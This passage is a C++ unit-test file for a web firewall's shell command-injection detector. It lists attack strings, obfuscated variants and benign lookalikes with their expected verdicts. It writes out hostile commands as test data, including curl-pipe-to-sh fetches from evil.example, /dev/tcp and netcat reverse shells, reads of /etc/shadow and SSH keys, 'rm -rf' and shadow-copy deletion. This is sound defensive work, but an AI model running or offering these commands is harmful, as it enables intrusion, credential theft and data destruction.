// Tokens of command lines, evidence and verdicts: attacks, other spellings of them, and what looks like them.
#include <algorithm>
#include <memory_resource>
#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>

#include "detect/analyze/shell/command_table.h"
#include "detect/analyze/shell/paths.h"
#include "detect/analyze/shell/shell_lexer.h"
#include "detect/analyze/shell/shell_matcher.h"
#include "detect/core/bytes.h"
#include "tests/detect/analyze/analyze_support.h"

namespace wafd::detect {
namespace {

struct Row {
  const char* text;
  const char* verdict;
};

constexpr Row kAttacks[] = {
    // The end of a case in a substitution stands wherever a pattern or a command may begin
    {"\"$(case x in esac)\";id", "balanced"},
    {"x;\"$(case x in x)esac)\";curl http://evil.example/a|sh", "low"},
    {"x;\"$(case x in y);; esac)\";curl http://evil.example/a|sh", "low"},
    {"\"$(case x in y);; esac)\";id", "balanced"},
    {"x;\"$(case x in esac)\";id", "balanced"},
    {"x;\"$(case x in a|esac) :;;\nesac)\";id", "balanced"},
    {"x;\"$(case x in esac)\";nc -e /bin/sh 1.2.3.4 5", "low"},
    // cmd.exe's switches in the word of its command; numbers in place of words; programs by their paths
    {"127.0.0.1&dir/s c:\\", "low"},
    {"{\nid\n}", "balanced"},
    // A command that a variable holds begins its text
    {"x;x='uname -a';eval $x", "low"},
    {"1|dir/b/s", "balanced"},
    {"1&del/q c:\\temp\\x", "balanced"},
    {"a@b.c&&echo $((1337*3))", "balanced"},
    {"1;expr 268409241 - 2", "-"},
    {"x&timeout /t 5", "balanced"},
    {"1|ps aux|", "balanced"},
    {"x;ls env:", "low"},
    {"x;powershell Get-Process", "balanced"},
    {"1;/bin/busybox MIRAI", "balanced"},
    {"127.0.0.1;cat /etc/passwd", "low"},
    {"127.0.0.1 && cat /etc/hosts", "low"},
    {"x | curl http://evil.example/a.sh", "low"},
    {"1||ping -c 4 10.0.0.7||", "low"},
    {"a;wget evil.example/x -O /tmp/x", "low"},
    {"$(curl evil.example)", "low"},
    {"`nslookup evil.example`", "low"},
    {"\n/bin/cat /etc/shadow", "balanced"},
    {"x|bash -i", "balanced"},
    {"a;rm -rf /var/www", "low"},
    {"1;echo aWQ=|base64 -d|sh", "low"},
    {"'; ls -la /home #", "low"},
    {"\"; uname -a; \"", "low"},
    {"1 & type c:\\windows\\win.ini", "low"},
    {"x|cmd /c dir", "low"},
    {"127.0.0.1;whoami", "balanced"},
    {"127.0.0.1 | id", "balanced"},
    {"|ls", "balanced"},
    {"10.0.0.1%0a|pwd", "balanced"},
    {"$(id)", "balanced"},
    {"`id`", "balanced"},
    {"a.txt;sleep 10", "balanced"},
    {"<(cat secret)", "balanced"},
    {"${`id`}", "balanced"},
    {";weirdtool --version", "balanced"},
    {"f;a=x;$a /etc/passwd", "balanced"},
    {"sort|id", "balanced"},
    {"cat /etc/passwd", "balanced"},
    {"wget http://evil.example/x.sh", "balanced"},
    {"bash -c id", "balanced"},
    {"ping -c 3 evil.example", "balanced"},
    {"powershell -enc SQBFAFgA", "balanced"},
    {"cmd.exe /c whoami", "balanced"},
    {"strace ifconfig", "balanced"},
    {"Invoke-WebRequest http://evil.example/a.ps1", "balanced"},
    // Arguments by the tool's own words, groups, input, programs by their folder
    {"& net user", "balanced"},
    {"8.8.8.8 & net localgroup administrators", "balanced"},
    {"|reg query HKLM", "balanced"},
    {"10.0.0.7;ip addr", "balanced"},
    {";apt install nmap", "balanced"},
    {";mv a b", "balanced"},
    {";(id)", "balanced"},
    {"127.0.0.1;(whoami)", "balanced"},
    {"10.0.0.7||(id)", "balanced"},
    {";{ id;}", "balanced"},
    {"x;cat<file", "balanced"},
    {";>/srv/a/index.html", "balanced"},
    {";cat *", "balanced"},
    {";./x", "balanced"},
    {"; /tmp/.x/miner -o pool", "balanced"},
    {"whoami", "strict"},
    {"whoami\r\n", "strict"},
    // Names of commands and nothing else, and what products are called
    {"visudo", "strict"},
    {"ansible-console", "strict"},
    {"Wireshark", "-"},
    {"docker", "-"},
    {"gzip", "-"},
    {"nohup visudo", "balanced"},
    {"sudo visudo", "strict"},
    {"nohup curl", "strict"},
    {"sudo find", "-"},
    {";git x", "strict"},
    {"& git x", "-"},
    {"|vi (x", "balanced"},
    {"${IFS}", "balanced"},
    {"v''isudo", "strict"},
    {"& dir c:\\", "low"},
    // Disguises
    {"x;c'a't /etc/passwd", "balanced"},
    {"x;wh``oami", "balanced"},
    {"x;who$@ami", "balanced"},
    {"cat$IFS/etc/passwd", "balanced"},
    {"x;cat${IFS}a.txt", "balanced"},
    {"/?"
     "?"
     "?/c?t /etc/hosts",
     "balanced"},
    {"x;/bin/c[a]t a", "balanced"},
    {"${PATH:0:1}etc", "balanced"},
    {"$'\\x77\\x68oami' -x", "balanced"},
    {"x&w^h^o^a^m^i", "balanced"},
    // Fixed shapes
    {"() { :;}; /bin/ping x", "low"},
    {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "low"},
    {"exec 5<>/dev/tcp/evil.example/80", "low"},
    {"id > shell.php", "balanced"},
    {"IEX(New-Object Net.WebClient).DownloadString('http://evil.example')", "balanced"},
    {"%COMSPEC% /c dir", "balanced"},
    {"for /f %i in (a.txt) do echo %i", "balanced"},
    {"if not exist c:\\x.txt (del y)", "balanced"},
    {"IF /I \"%var%\"==\"x\" ( ECHO found )", "balanced"},
    {"f(){ f|f& };f", "balanced"},
    {"deploy() { rm x; }; deploy", "balanced"},
    {"() {", "low"},
    {"alias ll=curl", "balanced"},
    {"alias -g x=id", "balanced"},
    {"{,ifconfig}", "balanced"},
    {"{cat,/etc/passwd}", "balanced"},
    {"{id,}", "balanced"},
    {"x;{wget,http://203.0.113.9/x,-O,/tmp/x}", "balanced"},
    {"x;`cat<<<ifconfig`", "low"},
    {"pi<()ng 127.0.0.1", "balanced"},
    {"a=nc&&$a -nlvp 555", "balanced"},
    {"d=/dev&&(sh)0>$d/tcp/10.0.0.1/80", "low"},
    {"x;$_at /et$_c/pas$_swd", "balanced"},
    {"/usr/bin/id", "balanced"},
    {"bin/bash", "balanced"},
    {"c:\\windows\\system32\\cmd.exe", "balanced"},
    {"nohup id", "balanced"},
    {"time who", "strict"},
    {"gcc-12 --version", "strict"},
    {"x;python3.11 -c 1", "low"},
    {"git --version", "strict"},
    {"npm i --save-dev x@^1.2", "strict"},
    {"docker run -it --rm x", "strict"},
    {"sudo apt-get install -y nginx", "strict"},
    {"7;git --version", "balanced"},
    {"7|npm i --save-dev x", "balanced"},
    {"x && docker ps -a", "balanced"},
    {"gcc -wrapper sh,-c,id .", "balanced"},
    {"bash -c id", "balanced"},
    {"find / -perm -4000", "balanced"},
    {"x & cat /etc/passwd", "low"},
    {"x & ls /", "low"},
    {"|id|", "balanced"},
    {"| id", "balanced"},
    {"strace -o x curl", "strict"},
    {"ls -la", "balanced"},
    {"cat /srv/x/y.gz", "balanced"},
    {"cat /et*/*wd", "balanced"},
    {"ansible-playbook site.yml", "balanced"},
    {"ansible-vault decrypt secret", "balanced"},

    {"x&bcdboot /r file", "balanced"},
    {"Get-ChildItem -Path c:\\", "balanced"},
    {"[Convert]::FromBase64String('aQ==')", "balanced"},
    {".shell id", "balanced"},
    {"1;\n.system id", "balanced"},
    {"\\! id", "balanced"},
    {">/tmp/x", "balanced"},
    {"$((1+1))", "strict"},
    {"!!", "strict"},
    {"~-1", "strict"},
    {"~root", "strict"},
    {"!$", "strict"},
    {"/etc/pa*wd", "balanced"},
    {"/etc/sh*ow", "balanced"},
    {"\r\nMAIL FROM:<a@mail.example>", "balanced"},
    {"x;id 0", "balanced"},
    {"x;id 12345", "balanced"},
    {"x;cat ^a", "balanced"},
    {"x &id; 4", "balanced"},
    {"f() {\n  id\n}; f", "balanced"},
    {"x {\n  cat /etc/passwd\n}", "balanced"},
    {"\r\na001 EXAMINE INBOX", "balanced"},
    {"numbers\r\n178219\tMove (a song) was released in 2013", "-"},
    {"\r\nRETR 12", "balanced"},
    {"\r\nQUIT", "balanced"},
    {"www.a.example;c$$at+/e", "strict"},
    // The shell itself, files in the place of a substitution or behind <
    {";$0<<<id", "balanced"},
    {"$0<<<id", "balanced"},
    {"$(</etc/passwd)", "low"},
    {"x`</etc/hosts`", "low"},
    {"cat</etc/passwd", "balanced"},
    {"x;cat<a.txt", "balanced"},
    {"x|cat</srv/x", "low"},
    {"x;sh</tmp/x", "balanced"},
    {"x;sh<../up/x", "balanced"},
    {"x;cat</e*c/pass*", "low"},
    {"x;ls ../..", "low"},
    {"x;ls /", "low"},
    {"x;ls / #", "low"},
    {"x;find / #", "low"},
    {"x & find / #", "low"},
    {"x;id -$u", "balanced"},
    {"^w^h^o^a^m^i", "balanced"},
    {"a;id;b", "balanced"},
    {"x|ls", "balanced"},
    {"\"&calc&\"", "balanced"},
    {"wmic process call create calc", "balanced"},
    {"netsh advfirewall set allprofiles state off", "balanced"},
    {"vssadmin delete shadows", "balanced"},
    {"&(gcm *ke-e*) x", "balanced"},
    {".(gal i*x) $x", "balanced"},
    {"& ('who' + \"ami\")", "balanced"},
    // Behind a tool's line what looks around still counts
    {"git log; whoami", "balanced"},
    {"git log | nc -e /bin/sh 203.0.113.9 80", "low"},
    {"docker ps && cat /etc/shadow", "low"},
    {"npm test; head -n 1 ~/.ssh/id_rsa", "low"},
    {"1\n2\n3\n4; cat /etc/passwd", "low"},
    // Options by which tools run programs
    {"--use-compress-program=id", "balanced"},
    {"--checkpoint=1 --checkpoint-action=exec=sh x.sh", "balanced"},
    {"-oProxyCommand=id", "balanced"},
    {"-o ProxyCommand=id x", "balanced"},
    {"ssh://-oProxyCommand=id/x", "balanced"},
    {"--upload-pack=id", "balanced"},
    {"--receive-pack=\"sh x\"", "balanced"},
    {"-c core.sshCommand=id", "balanced"},
    {"--config=alias.clone=!id", "balanced"},
    {"--open-files-in-pager=id", "balanced"},
    {"-exec id ;", "balanced"},
    {"-execdir /bin/sh -c x ;", "balanced"},
    {"--rsh='sh -c id'", "balanced"},
    {"-d auto_prepend_file=php://input", "balanced"},
    {"-dallow_url_include=1 -dauto_prepend_file=php://input", "balanced"},
    {"-OQueueDirectory=/tmp -X/var/www/x.php", "balanced"},
    {"-be -X/var/www/html/a.php", "balanced"},
    {"-XX:OnError=id", "balanced"},
    {"-javaagent:/tmp/x.jar", "balanced"},
    {"-sOutputFile=%pipe%id", "balanced"},
    {"--gpu-launcher=calc", "balanced"},
    {"--pager=/bin/sh", "balanced"},
};

constexpr Row kBenign[] = {
    {"Uncaught Error: x at Object.eval (eval at <anonymous> (main.js:1))", "-"},
    {"Read usr/a; see dir/s for more", "-"},
    {"/api/ping", "-"},
    {"yes; 2 or 3", "-"},
    {"& net income of 2023", "-"},
    {"a net user of services", "-"},
    {"(x|(id))", "-"},
    {"^(a|(date))$", "-"},
    {"dog;cat<br>more", "-"},
    {"<h2>body & head</h2><ul><li>a</li></ul><p><img src=\"/uploads/a.jpg\" width=\"300\" /></p>", "-"},
    {"python -snake", "strict"},
    {"make && make test && sudo make install", "strict"},
    {"red;cat<b>bold</b>", "-"},
    {"cat & dog", "-"},
    {"dog & cat", "-"},
    {"salt & pepper; bread | butter", "-"},
    {"Tom && Jerry", "-"},
    {"rock'n'roll", "-"},
    {"I don't know if it's ok; find out more about us", "-"},
    {"a < b && c > d", "-"},
    {"AT&T", "-"},
    {"name;id;date", "-"},
    {"price > 100 | sort by name", "-"},
    {"text/html; charset=utf-8", "-"},
    {"&lt;id&gt; is &quot;x&quot;", "-"},
    {"https://shop.example/?a=b;c=d&id=5", "-"},
    {"$(document).ready", "-"},
    {"$(this).find('a')", "-"},
    {"Hello ${name}", "-"},
    {"It costs $5; more or less", "-"},
    {"C:\\Users\\tom\\Documents\\file.txt", "-"},
    {"at sunrise; echo of the past", "-"},
    {"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "-"},
    {"curl/7.88.1", "-"},
    {"HEAD /blog/index.html", "-"},
    {"GET https://shop.example/a", "-"},
    {"Wget/1.21.3", "-"},
    {"host: example; type: text", "-"},
    {"function(){return a||b;}", "-"},
    {"if (x) { print(y); }", "-"},
    {"Error\n    at foo (a.js:1:2)\n    at bar (b.js:3:4)\n    at baz", "-"},
    {"() => { return 1; }", "-"},
    {"{\"id\":1,\"date\":\"2024-01-01\",\"type\":\"x;y\"}", "-"},
    {"find the best price", "-"},
    {"sort -- not sorted", "-"},
    {"time to go", "-"},
    {"java", "-"},
    {"more info", "-"},
    {"Вопрос: кто там; что делать", "-"},
    {"猫 & 犬; 鳥 | 魚", "-"},
    {"if not today then tomorrow", "-"},
    {"for %s in the list", "-"},
    {"SGVsbG8=;base64,AAAA", "-"},
    {"R&D; sales", "-"},
    {"cat food", "-"},
    {"price $5", "-"},
    {"a|b", "-"},
    {"session=abc; id=5; date=today", "-"},
    {"a{color:red;top:0;left:1px}", "-"},
    {"{id,name,date}", "-"},
    {"{id: http://shop.example/, name: x}", "-"},
    {"query { user(id: 1) { id name } }", "-"},
    {"2024-01-01 10:00:00 GET /path?id=1&sort=date 200", "-"},
    {"Wall Street; more or less", "-"},
    {"python 3 tutorial", "-"},
    {"head of sales", "-"},
    {"find x for y", "-"},
    {"the alias \"pineapple\" online", "-"},
    {"const f = () => { return 1; }", "-"},
    {"function a() { return b; } a.c", "-"},
    {"First line\nlist of things\nuser story\n", "-"},
    {"12 top songs\n10 more", "-"},
    {"see ./a/b and ../c", "-"},
    {"I use `git` and (id) here", "-"},
    {"(type) or (file)", "-"},
    {"https://shop.example/a?x=1&id&sort", "-"},
    {"Hello!! ~ 5", "-"},
    {"5 > 3", "-"},
    {"~tom", "-"},
    {"The date; the time; the host", "-"},
    {"get-started", "-"},
    {"git commit -m \"exec load\"", "-"},
    {"git commit -m exec load", "-"},
    {"pip install --upgrade pip", "-"},
    {"yarn add --dev eslint", "-"},
    {"cargo build --release", "-"},
    {"kubectl get pods -n web", "-"},
    {"make -j4 all", "-"},
    {"Bash and Curl v. Test", "-"},
    {"Script and Ping v. Byte", "-"},
    {"Bash bar w/ Cat food", "-"},
    {"Echo dot & Cat tree set / \"Midnight\"", "-"},
    {"Tail light & More milk set / #ff8800", "-"},
    {"Perl earrings & Python snake toy set / noir", "-"},
    {"Cat food; dog food 1/2\" x 5' 5\"", "-"},
    {"78x Cat food; dog food @ $999.24 each = €48,44", "-"},
    {"tablet 10\" set / off-white", "-"},
    {"| name | id |\n|---|---|\n| 7 | 6 |", "-"},
    {"| path | node |", "-"},
    {"-----\nBash & Sons\nSort box", "-"},
    {"content-type: text/html", "-"},
    // Dashes, angle brackets, ampersands that are none of a shell's
    {"-- exec summary", "-"},
    {"--verbose", "-"},
    {"-5 degrees", "-"},
    {"-x", "-"},
    {"--pager", "-"},
    {"--filter=blue", "-"},
    {"--require=all", "-"},
    {"-o output.txt", "-"},
    {"-d name=Tom", "-"},
    {"-c red=1", "-"},
    {"--exec=yes", "-"},
    {"-- \nTom", "-"},
    {"-run, jump and swim", "-"},
    {"my cat</b> and <i>dog</i>", "-"},
    {"x;cat</td><td>7", "-"},
    {"insert && execute || sleep <3", "-"},
    {"wait for && sort || kill </3!", "-"},
    // Prose has a blank behind its signs.
    {"John; id 12345", "strict"},
    {"Laptop; id 5, new", "strict"},
    {"x;cat ^_^", "-"},
    // No separator: a character of HTML
    {"2 &times; 4", "-"},
    {"2 &times 4", "strict"},
    // A block of another language
    {"fragment a on B {\n  id\n  name\n}", "-"},
    {"query a($b: Int) {\n  id\n}", "-"},
    {"insert && order || kill <33", "-"},
    {"print && curl || touch -.-", "-"},
    {"find && sort || print ._.", "-"},
    {"drop && select || kill :/", "-"},
    {"wait && wait || kill ...", "-"},
    {"curl && sort || print ://", "-"},
    {"Screw M6*40 & Tablet 10.1\" set / #ff8800", "-"},
    {"$(<div>)", "-"},
    {"Q&A (more) & B&B (\"sea view\")", "-"},
    {"a.b (\"id\")", "-"},
    {"calc(100% - 2px); top:0", "-"},
    {"R&D; S&P", "-"},
    {"a;b", "-"},
    {"ab;id;cd", "-"},
    {"^id$", "-"},
    {"2^10", "-"},
    {"xlsatoms 1.1.3.", "-"},
    {"{{PLURAL:$1|la|le}} pagina", "-"},
    {"--log=0|1 --query-relabel=0|1", "-"},
    {"set it to ``a;``.", "-"},
    {"Press Enter; then type ipconfig /all", "-"},
    {"First cut; then sort it; else cat food", "-"},
    {"having fun; where are you?", "-"},
    {"a; which one?", "-"},
};

struct Placed {
  Location location;
  std::string_view name;  // of the parameter
  std::string_view text;
  const char* verdict;
};
constexpr Location kQuery = Location::kQuery;
constexpr Location kBody = Location::kBody;

constexpr Placed kLookalikes[] = {
    {kBody, "m", "x | Where-Object Status -eq Running", "low"},
    {kBody, "m", "x | Where-Object { iex $_ }", "balanced"},
    {kQuery, "v", "powershell get-content -tail", "balanced"},
    {kQuery, "v", "powershell Get-Content -Path c:\\a.txt", "balanced"},
    {kBody, "v", "/usr/bin/shopd -d", "balanced"},
    {kBody, "v", "/usr/bin/curl -d", "balanced"},
    {kBody, "v", "x;/usr/bin/shopd -d", "balanced"},
    {kBody, "cmdline", "/bin/sh -c /usr/sbin/cron -f", "balanced"},
    {kBody, "cmd", "/bin/sh -c /usr/sbin/cron -f", "balanced"},
    {kQuery, "cmdline", "/bin/sh -c /usr/sbin/cron -f", "balanced"},
    {kBody, "cmdline", "/bin/sh -c 'cat /etc/passwd'", "balanced"},
    {kBody, "cmdline", "127.0.0.1;cat config.php", "balanced"},
    {kBody, "commandline", "curl evil.example|sh", "low"},
    {kQuery, "v", "tar -xzf vs tar -xvf", "balanced"},
    {kQuery, "v", "ssh -L port forwarding", "strict"},
    {kQuery, "v", "ssh -o StrictHostKeyChecking=no host", "strict"},
    {kBody, "v", "ssh -p 22 -i key user@host", "strict"},
    {kQuery, "v", "ssh -o StrictHostKeyChecking=no host id", "balanced"},
    {kBody, "v", "ssh -oProxyCommand=id host", "balanced"},
    {kBody, "v", "ssh -o ProxyCommand=id host", "balanced"},
    {kQuery, "v", "git -c core.editor=vim commit", "strict"},
    {kQuery, "v", "git -c core.pager=less log", "strict"},
    {kQuery, "v", "git -c core.editor=id commit", "balanced"},
    {kQuery, "v", "git -c core.pager='less;id' log", "balanced"},
    {kQuery, "v", "git -c core.sshcommand=vim fetch", "balanced"},
    {kQuery, "v", "tar -xzf a.tgz -C /tmp", "balanced"},
    {kQuery, "v", "curl http://evil.example/x -o /var/www/x.php vs", "balanced"},
    {kQuery, "v", "bash -i vs", "balanced"},
    {kQuery, "v", "perl -e exec whoami", "balanced"},
    {kQuery, "v", "bash -xeuv<<<id", "balanced"},
    {kQuery, "v", "cat -n /etc/passwd vs", "balanced"},
    {kBody, "m", "the folder had 80 GB; logrotate was broken", "strict"},
    {kBody, "m", "80; logrotate -f broken", "balanced"},
    {kBody, "m", "df -h: /dev/sda1 > 90%", "balanced"},
    {kBody, "m", "df -h /dev/sda1", "balanced"},
    {kQuery, "v", "File \"/usr/lib/python3/x.py\", line 3", "-"},
    {kQuery, "v", "file \"/usr/lib/python3/x.py\"", "balanced"},
    {kBody, "m", "web CRON[123]: (root) CMD (/usr/bin/php /srv/cron.php > /dev/null 2>&1)", "-"},
    {kBody, "m", "web CMD (/usr/bin/php /srv/cron.php > /dev/null 2>&1)", "-"},
    {kBody, "m", "x;rm -rf /var/www #CRON[", "low"},
    {kBody, "m", "x;rm -rf /var/www #CRON[1]: (root) CMD (x)", "low"},
    {kQuery, "host", "127.0.0.1\ncat config.php\n:", "balanced"},
    {kQuery, "host", "x;\ncurl http://evil.example/x|sh\n:", "low"},
    {kBody, "m", "To install:\ncurl http://a.example/x | sh\nDone.", "low"},
    {kBody, "m",
     "Get-ChildItem -Path C:\\Logs -Filter *.log |\n  Sort-Object Length |\n  Remove-Item -WhatIf |\n  "
     "Out-Null",
     "balanced"},
    {kBody, "m", "Get-ChildItem -Path C:\\Logs -Filter *.log |\nx\ny", "balanced"},
    {kBody, "m", "Use `chmod 600 ~/.ssh/id_ed25519`. The file must be yours.", "balanced"},
    {kBody, "m", "x `chmod 600 ~/.ssh/id_ed25519` y", "balanced"},
    // Ordinary searches
    {kQuery, "searchterm", "grep -v", "recorded"},
    {kQuery, "search_text", "ls -la", "recorded"},
    {kQuery, "searchengine", "ls -la", "balanced"},
    {kQuery, "searchterm", "x;ls -la /srv", "low"},
    // A parenthesis behind a word: no shell of Unix runs any of the line
    {kBody, "log", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)", "-"},
    {kBody, "m", "Ask Bob (he knows); ls /srv -la shows it", "-"},
    {kBody, "m", "Ask Bob (he knows)\nls -la /srv/a", "balanced"},
    {kBody, "m", "x (y);perl -e 'exec q(id)'", "low"},
    {kBody, "m", "x (y) & whoami /all", "low"},
    {kBody, "m", "x (y) $(ls -la /srv)", "low"},
    {kBody, "m", "x 'a (b)';ls -la /srv", "low"},
    {kBody, "m", "a=(1 2);ls -la /srv", "low"},
    {kBody, "m", "f() (id);f;ls -la /srv", "low"},
    {kBody, "m", "x;(ls -la /srv)", "low"},
    // Comparisons of filters, and sentences with a star
    {kQuery, "where", "id>5", "-"},
    {kQuery, "v", "ifconfig 2>&1", "balanced"},
    {kQuery, "filter", "top < 10", "-"},
    {kQuery, "where", "id>a.txt", "balanced"},
    {kQuery, "where", "x;id>5", "balanced"},
    {kBody, "m", "nslookup fails; tracert shows * * *", "strict"},
    {kBody, "m", "x;curl h*", "balanced"},
    // A group of commands, and a selection of GraphQL
    {kBody, "query", "{\nid\n}", "balanced"},
    {kBody, "query", "{\n  id\n  name\n}", "strict"},
    {kBody, "query", "query {\n  test\n  id\n}", "strict"},
};

TEST(Shell, LookalikesAreToldApart) {
  for (const Placed& row : kLookalikes)
    EXPECT_EQ(verdict_of(analyzer_named("cmd"), row.text, row.location, false, row.name), row.verdict)
        << row.text;
}

TEST(Shell, Attacks) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const Row& row : kAttacks)
    EXPECT_EQ(verdict_of(analyzer, row.text, kQuery, false, "v"), row.verdict) << row.text;
}

TEST(Shell, BenignTextPassesAtBalanced) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const Row& row : kBenign)
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, row.text, kQuery, false, "v"))) << row.text;
}

TEST(Shell, DocumentationIsNotDeniedAtBalanced) {
  const Analyzer& analyzer = analyzer_named("cmd");
  const std::string_view text =
      "## Install\n\nFirst update the package list and install the server:\n\n    sudo apt-get update\n"
      "    sudo apt-get install -y nginx\n\nThen run `systemctl restart nginx` and open the page in a "
      "browser.\n"
      "To see the log, use `tail -f error.log | grep -i warn`, or look at it with less.\n";
  EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v")));
}

// The apostrophe of a word is no quote, and who is spoken to is no host.
TEST(Shell, ProseThatBeginsALineOrStandsBehindASign) {
  const Analyzer& analyzer = analyzer_named("cmd");
  const std::string_view text =
      "  * Fix problems on other systems\n    which don't allow such pointers (for example, on a\n"
      "    sparc64 system).\n  * It's there since 1.2 and can't go.\n";
  EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v")));
  EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, "web production; ping @ops", kBody, false, "v")));
  EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, "a\nwhich nc'\n' /bin/sh", kBody, false, "v")));
  EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, "web; ping evil.example", kBody, false, "v")));
  EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, "web; dig @evil.example", kBody, false, "v")));
}

// Sentences in lines, citations with their author behind two hyphens, names in angle brackets.
TEST(Shell, ProseOfDictionariesAndLetters) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const std::string_view text :
       {"Why does one state have more waste and\nmore of the other lawyers?\n\nNobody knows.",
        "Wickedness; sin; cursing. --Chaucer.", "Luck; chance; accident. --Milton. --Cowper.",
        "Alice\n\n   <computer, parallel> A parallel {graph rewriting} computer",
        "/usr/bin/tools is the place where most of the programs are installed"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
  for (const std::string_view text :
       {"x\ncat /etc/passw?", "x\ncat flag?", "x\nmore passwd?", "x\nmore *.txt", "x\ncat x.ph?",
        "x\nls {a,b}", "x;foo --verbose", "x; foo --a-b=c", ";foo --Ab=c", "x;more lawyers?",
        "x\nsort <a.txt", "/usr/bin/id", ";id >a, <a,", "/bin/bash -c id one two three four five six",
        "/bin/rm a b c d e f", "/usr/bin/tee this is a very nice day /var/www/html/x.php",
        "x;/usr/bin/tools is the place where most of it is"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
}

// Names of settings are names of commands, too, and code has variables of other languages.
TEST(Shell, SettingsAndCodeOfOthers) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const std::string_view text :
       {"module \"vpc\" {\n  source = \"../modules/vpc\"\n}",
        "type = bind\nsource = /srv/data\ntarget = /data", "[paths]\nfind = /usr/bin/find",
        "head = \"/img/head.png\"", "// for example\n$e = $x->getMessage();", "# read all lines\n$a = 5;",
        "// look for key\n$key = $array[0];", "# read file\n$file->open();",
        "$url = \"list.php?cat=1&page=\".$page; $page = $page + 1;", "std::string &name;id = 5;",
        "It`s `payload` last), and so on"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
  EXPECT_FALSE(denied_at_balanced(
      verdict_of(analyzer, "{\n user {\n name\n email\n phone\n id\n }\n}", kQuery, false, "v")));
}

// Words and signs around what a command reads take nothing from it.
TEST(Shell, FilesAmongWords) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const std::string_view text :
       {";cat = /etc/passwd", "x; cat = /etc/passwd", ";cat a b c d e /etc/hosts",
        "x; cat a b c d e config.php", ";rm these old files now please index.php",
        ";wget this is a nice day http://evil.example/x", ";head of all the many files in /etc/hosts"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
  for (const std::string_view text :
       {"the name; type = a.b", "see the list; find it at https://docs.example/list of all the names",
        "we were late; head of the file in /etc/hosts is the one that they want"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
}

// A password is given to commands, too: one with a blank and no quote was not generated.
TEST(Shell, SecretsWithBlanks) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const std::string_view text : {";ping -c1 x", "& type config.php", "& net user", "|cat config.php"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "password"))) << text;
  for (const std::string_view text : {"correct horse; battery", "xk;id", "a|cat", "p&ls", "my dog & cat"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "password"))) << text;
}

// Fields whose names say that a host or a user stands in them hold no script.
TEST(Shell, ScriptsByTheNameOfTheirField) {
  const Analyzer& analyzer = analyzer_named("cmd");
  std::string text = "#!/bin/sh\n";
  for (int i = 0; i < 10; ++i) text += "# a line of it that says nothing\n";
  text += "curl http://a.example/x | sh\n";
  for (const std::string_view name : {"host", "ip", "user_name", "hosts[0].name", "servers[0].host", "url"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, name))) << name;
  for (const std::string_view name : {"script", "job[content]", "jobs[0].script", "message", "userdata"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, name))) << name;
}

// Names of commands that expansions make, and what stands before a name and comes to nothing. Each was run by
// bash.
TEST(Shell, NamesThatExpansionsMake) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const std::string_view text : {";a=xid;\"${a#x}\"",
                                      ";a=xd;i${a#x}",
                                      ";a=xat;c${a#x} config.php",
                                      ";b=1 a=xid;${a#x}",
                                      "(a=xid;${a#x})",
                                      ";if a=xid;then ${a#x};fi",
                                      ";a=ID;${a,,}",
                                      ";export a=xid;${a#x}",
                                      ";set -- xid;${1#x}",
                                      ";${!:-id}",
                                      ";${-:+id}",
                                      ";a=xls;${a#x} [a-z]*",
                                      ";$z $z id",
                                      ";$@ $@ cat config.php",
                                      ";$() id",
                                      ";$(:) id",
                                      ";${z:-} id",
                                      ";cat x x x app/conf",
                                      ";cat x x x c*",
                                      ";wget x x x x evil.example",
                                      ";sh x.sh x x x x",
                                      "x {\nid",
                                      "x;cat>index.html",
                                      ";>index.html"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
  for (const std::string_view text :
       {"a; ${total-count} left", "price;${a}", "row;${i%2}", "a;${b.c}", "a;${price/2}",
        "function f() {\n  id = 3;\n}", "if (x) {\n  top\n}", "a > b.html", "see; find the best of app/conf"})
    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
}

// Directly behind a separator, a command and the files that it is given are no sentence, whatever else its
// name is.
TEST(Shell, FilesDirectlyBehindSeparators) {
  const Analyzer& analyzer = analyzer_named("cmd");
  for (const std::string_view text :
       {";diff config.php x", ";gzip config.php", ";join config.php config.php", ";touch x.php",
        ";tr a b<config.php", ";node x.js", ";java x.jar", ";lua5.2 x.lua", "x&&install config.php x.txt",
        ";socat tcp:evil.example:99 exec:sh", ";erb config.php", ";cpp-12 config.php",
        ";vim.basic config.php", ";x86_64-linux-gnu-strings config.php", ";: >config.php",
        ";for((;;)){ id;break;}", ";for ((i=0;i<1;i++)) { cat config.php;}", "1&lt;cat config.php"})
    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
  for (const std::string_view text :
       {"; join us", "; look here", "; touch base", "; install x", "; node x", "a; : >b", ":; :)",
